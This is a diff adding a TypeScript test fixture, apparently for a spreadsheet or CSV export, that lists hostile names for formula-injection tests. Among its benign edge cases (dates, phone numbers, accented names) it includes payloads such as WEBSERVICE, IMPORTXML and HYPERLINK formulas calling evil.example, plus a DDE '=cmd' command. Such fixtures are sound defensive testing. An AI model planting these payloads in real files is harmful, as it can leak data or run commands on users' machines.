@@ -1,0 +1,31 @@
+const openings = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
+
+/** Names that a spreadsheet would compute, follow or fall apart on. */
+export const hostileNames: string[] = [
+  ...openings.flatMap((opening) => [`${opening}1+41`, `${opening}SUM(A1:A9)`]),
+  '=HYPERLINK("http://evil.example","clicca")',
+  '=HYPERLINK("http://evil.example";"clicca")',
+  "=cmd|'/C calc'!A0",
+  '=IMPORTXML("http://evil.example","//a")',
+  '=WEBSERVICE("http://evil.example")',
+  '=1+41";=2+2',
+  '+39 333 1234567',
+  '-2+3+cmd',
+  '@SUM(1+41)*cmd',
+  '  =1+41',
+  '\u00a0=1+41',
+  ...['\t=1+41', '\r=1+41', '\n=1+41', '\u3000=1+41', '\ufeff=1+41'],
+  "'=1+41",
+  '"=1+41"',
+  '"; =1+41',
+  'a"b;c',
+  ';;;',
+  ',,,',
+  'TRUE',
+  '1E+41',
+  '00420 Rossi',
+  '12/03/2026 Rossi',
+  '3-4',
+  '#REF!',
+  'Però «Lupo» Müller',
+]
